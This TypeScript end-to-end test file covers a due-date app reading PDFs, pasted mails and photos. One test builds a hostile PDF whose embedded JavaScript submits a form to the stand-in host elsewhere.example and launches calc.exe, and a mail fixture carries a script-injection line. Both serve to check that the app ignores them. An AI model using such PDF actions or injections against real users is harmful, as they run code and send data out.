import { addDays, longDate, type CalendarDate } from '@duebook/domain'
import { describe, expect, it } from 'vitest'
import { handFile } from '../page-models/hand-file.ts'
import { problems, problemsInBothSchemes } from '../page-models/problems.ts'
import { photo, proofOf } from '../page-models/proof.ts'
import { quickAdd } from '../page-models/quick-add.ts'
import { onPhone } from '../page-models/thumb.ts'
import { dayAhead } from '../product/days.ts'
import { house } from '../product/house.ts'
import { pdfOf } from '../product/pdf-of.ts'

/** "18 November 2026". */
const written = (date: CalendarDate) => longDate(date).replace(/^\S+ /, '')
/** A day of which the figures can be read in two ways. */
const open = (() => {
  const year = Number(dayAhead(0).slice(0, 4)) + 1
  return { figures: `12/01/${year}`, dayFirst: `12 January ${year}` }
})()
const sent = dayAhead(-3)
const letter = [
  [
    'Harcourt Estates',
    '12 Park Row, Leeds',
    '',
    written(sent),
    '',
    'Unit 4: rent review',
    '',
    'Dear Ms Bell,',
    '',
    'If you do not agree, your counter-notice must reach us within 28 days of',
    'the date of this letter.',
    '',
    `The insurance rent for the year, £412.60, falls due on ${written(dayAhead(10))}.`,
    '',
    `We propose to meet at the premises on ${open.figures} at 10.30.`,
  ],
  ['Schedule', '', `The schedule of repairs is to be completed by ${written(dayAhead(60))}.`],
]
const pdf = (buffer: Buffer, name = 'harcourt-unit-4.pdf') => ({ name, mimeType: 'application/pdf', buffer })

/** Hosts that are none of ours; a file that was just made has an address without one. */
const elsewhere = (hosts: Iterable<string>) => [...hosts].filter((one) => one !== '' && !one.startsWith('127.0.0.1:'))

describe('a document', () => {
  const at = house()

  it('that is dropped shows what is due in it and where, and by keys alone some of it is added with the letter', async () => {
    const { page, app, errors, hosts } = await at.newcomer('cora@capture.example', ['Gas on {20}'])
    await quickAdd(page).press()
    await page.getByRole('dialog', { name: 'Add' }).getByRole('button', { name: 'From a file…' }).waitFor()
    await handFile(page.locator('body'), pdf(pdfOf(letter)))

    await page.getByRole('heading', { name: '5 found in harcourt-unit-4.pdf' }).waitFor()
    await page.locator('h1:focus').waitFor()
    const found = page.getByRole('list', { name: 'Candidates' })
    const box = (name: RegExp) => found.getByRole('checkbox', { name })
    await expect.poll(() => page.getByRole('textbox', { name: 'Who it is from' }).inputValue()).toBe('Harcourt Estates')
    expect(await found.getByRole('checkbox', { checked: true }).count()).toBe(0)
    await found.getByText(`28 days after ${longDate(sent)}`).waitFor()
    expect(await problemsInBothSchemes(page, 'what was found')).toEqual([])

    // Nothing is guessed of the meeting: until somebody says which day it is, it cannot be ticked.
    await expect.poll(() => box(/Add 3, .*choose a date first/).isDisabled()).toBe(true)
    await page.keyboard.press('j')
    await page.keyboard.press('j')
    await found.getByRole('button', { name: 'Insurance rent', expanded: true }).waitFor()
    await page.keyboard.press('x')
    await expect.poll(() => box(/Add 2, Insurance rent/).isChecked()).toBe(true)
    const words = page.getByRole('region', { name: 'The words of page 1 of 2' })
    await words.getByText(`£412.60, falls due on ${written(dayAhead(10))}`).waitFor()
    const dayFirst = found.getByRole('radio', { name: new RegExp(`${open.dayFirst}, 10:30 the day first`) })
    await dayFirst.focus()
    await page.keyboard.press('Enter')
    await page.keyboard.press('k')
    await box(/Add 3, Unit 4: rent review/).focus()
    await page.keyboard.press('Space')

    // The place of what stands on another page leads there.
    await found.getByRole('button', { name: 'page 2, line 2' }).press('Enter')
    await page.getByRole('region', { name: 'The words of page 2 of 2' }).getByText('The schedule of repairs').waitFor()
    await page.getByRole('button', { name: 'Add 2', exact: true }).press('Enter')

    await app.status('2 added from harcourt-unit-4.pdf.').waitFor()
    await app.saved()
    await app.open('Insurance rent')
    await page.getByText('£412.60').first().waitFor()
    await page.getByText(/harcourt-unit-4\.pdf, page 1, line \d+: “£412\.60, falls due on/).waitFor()
    const proof = proofOf(page)
    await proof.confirmed('harcourt-unit-4.pdf')
    // From an obligation's files the same document is read again; what the book holds is said to be here.
    await proof
      .file('harcourt-unit-4.pdf')
      .getByRole('button', { name: /look at it/ })
      .click()
    await page.getByRole('dialog').getByRole('button', { name: 'Look for dates in it' }).click()
    await page.getByRole('heading', { name: '5 found in harcourt-unit-4.pdf' }).waitFor()
    await found.getByText('the same day is in the book').first().waitFor()
    expect(elsewhere(hosts)).toEqual([])
    expect(errors).toEqual([])
  })

  it('that is a mail is pasted on a phone, and its sum comes with its day', async () => {
    const { page, app, errors } = await at.newcomer('pia@capture.example', ['Gas on {20}'], onPhone)
    await page.goto(`${at.product.origin}/add?from=file`)
    const day = dayAhead(12)
    const mail = [
      'From: Northgate Energy <billing@northgate.example>',
      'Subject: =?utf-8?Q?Your_bill_=E2=80=93_gas?=',
      `Date: ${new Date(`${sent}T12:00:00Z`).toUTCString()}`,
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: quoted-printable',
      '',
      `<p>Your bill of =C2=A3163.75 will be taken on or after <b>${longDate(day)}</b>.</p><script>alert(1)</script>`,
    ]
    await page.getByRole('textbox', { name: 'Or paste the text of a mail or a letter' }).fill(mail.join('\n'))
    await page.getByRole('button', { name: 'Look for dates' }).tap()
    await page.getByRole('heading', { name: '1 found in pasted.txt' }).waitFor()
    await page.getByText('Your bill – gas', { exact: true }).first().waitFor()
    expect(await problems(page, 'a mail on a phone')).toEqual([])
    const box = page.getByRole('checkbox', { name: /^Add 1, Your bill/ })
    await box.tap()
    await page.getByRole('textbox', { name: 'Name of 1' }).fill('Gas bill')
    await page.getByRole('checkbox', { name: /Attach the document/ }).tap()
    await page.getByRole('button', { name: 'Add 1', exact: true }).tap()
    await app.keepTold('1 added from pasted.txt.')
    await app.saved()
    await app.row('Gas bill').getByText('£163.75').first().waitFor()
    await page.getByRole('status').getByRole('button', { name: 'Undo' }).tap()
    await expect.poll(() => app.row('Gas bill').count()).toBe(0)
    expect(errors).toEqual([])
  })

  it('that is hostile does nothing; a locked, a broken and a drawn one is refused or kept, and says so', async () => {
    const { page, app, errors, hosts } = await at.newcomer('hugo@capture.example', ['Gas on {20}'])
    await page.goto(`${at.product.origin}/add?from=file`)
    const input = page.getByLabel('Document to read')
    const again = () => page.getByRole('button', { name: 'Leave it' }).click()
    const opened: string[] = []
    page.on('dialog', (dialog) => void (opened.push(dialog.message()), dialog.dismiss()))
    page.on('popup', (popup) => opened.push(popup.url()))
    const acts =
      '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://elsewhere.example"\\)) >> /AA << /WC << /S /Launch /F (calc.exe) >> >>'
    await input.setInputFiles(pdf(pdfOf([[`Due on ${written(dayAhead(9))}`]], acts), 'hostile.pdf'))
    await page.getByRole('heading', { name: '1 found in hostile.pdf' }).waitFor()
    await again()

    const locked = pdfOf([['Nothing']])
      .toString('latin1')
      .replace(
        '/Root 1 0 R',
        `/Root 1 0 R /ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'11'.repeat(32)}> /U <${'22'.repeat(32)}> >>`,
      )
    await input.setInputFiles(pdf(Buffer.from(locked, 'latin1'), 'statement.pdf'))
    await page.getByRole('alert').filter({ hasText: 'is locked with a password' }).waitFor()
    await page.getByLabel('Password of the document').fill('perhaps')
    await page.getByRole('button', { name: 'Open it' }).click()
    await page.getByText('That is not its password.').waitFor()
    await again()

    await input.setInputFiles(pdf(Buffer.from('%PDF-1.7\nand then nothing that a PDF has'), 'broken.pdf'))
    await page.getByRole('alert').filter({ hasText: 'is damaged' }).waitFor()
    await input.setInputFiles({
      name: 'book.xlsx',
      mimeType: 'application/zip',
      buffer: Buffer.from('PK\u0003\u0004\0\0'),
    })
    await page.getByRole('alert').filter({ hasText: 'is of a kind that is not read' }).waitFor()

    await input.setInputFiles(photo('letter.png'))
    await page.getByRole('button', { name: 'Type beside it' }).click()
    await page.getByRole('img', { name: 'The document letter.png' }).waitFor()
    expect(await problems(page, 'typing beside a picture')).toEqual([])
    const line = page.getByRole('textbox', { name: /One line/i })
    await line.fill(`Window cleaning £30 on ${written(addDays(dayAhead(0), 30))}`)
    await page.getByRole('button', { name: 'Add Window cleaning' }).click()
    await app.status('Window cleaning added.').waitFor()
    await app.saved()
    await app.open('Window cleaning')
    await proofOf(page).confirmed('letter.png')
    expect(opened).toEqual([])
    expect(elsewhere(hosts)).toEqual([])
    expect(errors).toEqual([])
  })
})
